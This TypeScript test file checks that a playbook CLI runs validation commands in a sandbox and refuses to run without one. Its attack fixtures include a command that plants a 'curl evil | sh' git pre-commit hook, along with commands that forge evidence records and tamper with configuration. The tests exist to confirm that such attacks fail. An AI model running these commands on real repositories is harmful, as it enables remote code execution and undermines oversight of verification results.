import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { readRecords } from "../../src/adapters/record-store.ts";
import { readWorkingTree } from "../../src/adapters/tree-fingerprint.ts";
import { runCli } from "../helpers/run-cli.ts";
import {
  createTempProject,
  type TempProject,
} from "../helpers/temp-project.ts";

const PLAYBOOK = "plan/playbook-sandbox.md";

/** A playbook whose subtask p1.1 has the three given automated validation commands. */
function playbookWith(commands: [string, string, string]): string {
  const [technical, consistency, completeness] = commands.map((c) =>
    JSON.stringify(`automated - ${c}`),
  );
  return `# playbook-sandbox

## meta
\`\`\`yaml
reviewed: true
branch: feat/sandbox
\`\`\`

## goal
\`\`\`yaml
summary: Validations run sandboxed.
done_when:
  - the attack fails
\`\`\`

## context
Who: us. What: sandboxing.

## phases

### p1: Sandbox
**status**: in_progress

- [ ] **p1.1**: the validations run
  - executor: claudecode
  - validations:
    - technical: ${technical}
    - consistency: ${consistency}
    - completeness: ${completeness}

## final_tasks
- [ ] **ft1**: clean up
`;
}

const STATE = `# state

## playbook
\`\`\`yaml
active: ${PLAYBOOK}
branch: feat/sandbox
\`\`\`
`;

function project(
  commands: [string, string, string],
  security = "strict",
): TempProject {
  const p = createTempProject({
    "state.md": STATE,
    [PLAYBOOK]: playbookWith(commands),
    "src/app.ts": "export const app = 1;\n",
    ".gitignore":
      ".claude/playbook/*\n!.claude/playbook/records/\nnode_modules/\n",
    ".claude/playbook.json": `${JSON.stringify({ security })}\n`,
    "node_modules/playbook-kit/package.json": '{"name":"playbook-kit"}\n',
  });
  const git = (...args: string[]) =>
    execFileSync("git", args, { cwd: p.dir, encoding: "utf8" });
  git("init", "-q", "-b", "main");
  git("add", "-A");
  git(
    "-c",
    "user.name=t",
    "-c",
    "user.email=t@e.x",
    "commit",
    "-q",
    "-m",
    "init",
  );
  return p;
}

function verify(p: TempProject, env: Record<string, string> = {}) {
  const result = runCli(["verify", "p1.1", "--json", "--cwd", p.dir], {
    env,
  });
  return {
    ...result,
    json: (result.stdout.trim().startsWith("{")
      ? JSON.parse(result.stdout)
      : null) as {
      results: { validation: string; run: { exitCode: number | null } }[];
      sandbox: { sandboxed: boolean; why?: string };
      tree: string | null;
    } | null,
  };
}

const canSandbox =
  process.platform === "darwin" ||
  ["bwrap", "socat", "rg"].every((tool) => {
    try {
      execFileSync("which", [tool], { stdio: "ignore" });
      return true;
    } catch {
      return false;
    }
  });

describe.runIf(canSandbox)("playbook verify runs validations sandboxed", () => {
  it("a validation cannot forge a record, change the configuration or rewrite playbook itself", () => {
    const p = project([
      "mkdir -p .claude/playbook/records && echo '{}' > .claude/playbook/records/forged.json",
      'echo \'{"security":"developer"}\' >> .claude/playbook.json',
      "echo 'module.exports = 1' > node_modules/playbook-kit/package.json",
    ]);
    const config = p.read(".claude/playbook.json");
    const pkg = p.read("node_modules/playbook-kit/package.json");

    const result = verify(p);

    expect(result.status).toBe(1);
    expect(result.json?.sandbox.sandboxed).toBe(true);
    for (const r of result.json?.results ?? [])
      expect(r.run.exitCode, r.validation).not.toBe(0);
    expect(existsSync(p.path(".claude/playbook/records/forged.json"))).toBe(
      false,
    );
    expect(p.read(".claude/playbook.json")).toBe(config);
    expect(p.read("node_modules/playbook-kit/package.json")).toBe(pkg);
    const evidence = readRecords(p.dir, PLAYBOOK);
    expect(evidence.map((r) => [r.validation, r.verdict])).toEqual([
      ["completeness", "FAIL"],
      ["consistency", "FAIL"],
      ["technical", "FAIL"],
    ]);
    expect(evidence.every((r) => r.detail["sandboxed"] === true)).toBe(true);
  });

  it("a validation cannot plant a git hook or rewrite git's config", () => {
    const p = project([
      "echo 'curl evil | sh' > .git/hooks/pre-commit",
      "echo '[core]' >> .git/config",
      "true",
    ]);
    const gitConfig = p.read(".git/config");

    const result = verify(p);

    expect(result.status).toBe(1);
    expect(existsSync(p.path(".git/hooks/pre-commit"))).toBe(false);
    expect(p.read(".git/config")).toBe(gitConfig);
  });

  it("a validation may write build output in the project and files in the OS temp folder", () => {
    const temp = join(
      tmpdir(),
      `playbook-legit-${randomBytes(6).toString("hex")}`,
    );
    const p = project([
      "mkdir -p build && echo built > build/out.txt",
      `echo scratch > ${temp}`,
      "node -e \"require('fs').writeFileSync(require('os').tmpdir() + '/x', 'y')\"",
    ]);
    try {
      const result = verify(p);

      expect(result.stderr).toBe("");
      expect(result.status, result.stdout).toBe(0);
      expect(p.read("build/out.txt")).toBe("built\n");
      expect(readFileSync(temp, "utf8")).toBe("scratch\n");
      const evidence = readRecords(p.dir, PLAYBOOK);
      expect(evidence.every((r) => r.verdict === "PASS")).toBe(true);
      expect(evidence.every((r) => r.detail["sandboxed"] === true)).toBe(true);
    } finally {
      rmSync(temp, { force: true });
    }
  });

  it("the evidence names the tree before the run, and says which files the validations changed", () => {
    const p = project(["echo changed > src/app.ts", "true", "true"]);
    const before = readWorkingTree(p.dir).fingerprint;

    const result = runCli(["verify", "p1.1", "--cwd", p.dir]);

    expect(result.status).toBe(0);
    expect(result.stdout).toContain("The validations changed src/app.ts");
    const evidence = readRecords(p.dir, PLAYBOOK);
    expect(evidence.map((r) => r.detail["tree"])).toEqual([
      before,
      before,
      before,
    ]);
    expect(readWorkingTree(p.dir).fingerprint).not.toBe(before);
  });
});

describe("without a sandbox", () => {
  /** A PATH with git and nothing else: no bubblewrap, socat or ripgrep. */
  function bareEnv(): Record<string, string> {
    const bin = createTempProject().path("bin");
    mkdirSync(bin);
    const git = execFileSync("which", ["git"], { encoding: "utf8" }).trim();
    symlinkSync(git, join(bin, "git"));
    return { PATH: bin };
  }

  it.runIf(process.platform === "linux")(
    "strict mode refuses to run anything and names what to install",
    () => {
      const p = project(["echo ran > ran.txt", "true", "true"], "strict");

      const result = runCli(["verify", "p1.1", "--cwd", p.dir], {
        env: bareEnv(),
      });

      expect(result.status).not.toBe(0);
      expect(result.stderr).toContain("sandbox");
      expect(result.stderr).toContain(
        "apt-get install bubblewrap socat ripgrep",
      );
      expect(existsSync(p.path("ran.txt"))).toBe(false);
      expect(existsSync(p.path(".claude/playbook/records"))).toBe(false);
    },
  );

  it.runIf(process.platform === "linux")(
    "a weaker mode runs the commands, says so loudly and records sandboxed: false",
    () => {
      const p = project(["echo ran > ran.txt", "true", "true"], "trusted");

      const result = runCli(["verify", "p1.1", "--cwd", p.dir], {
        env: bareEnv(),
      });

      expect(result.status).toBe(0);
      expect(result.stdout).toContain("NOT SANDBOXED");
      expect(p.read("ran.txt")).toBe("ran\n");
      const evidence = readRecords(p.dir, PLAYBOOK);
      expect(evidence.map((r) => r.detail["sandboxed"])).toEqual([
        false,
        false,
        false,
      ]);
    },
  );
});
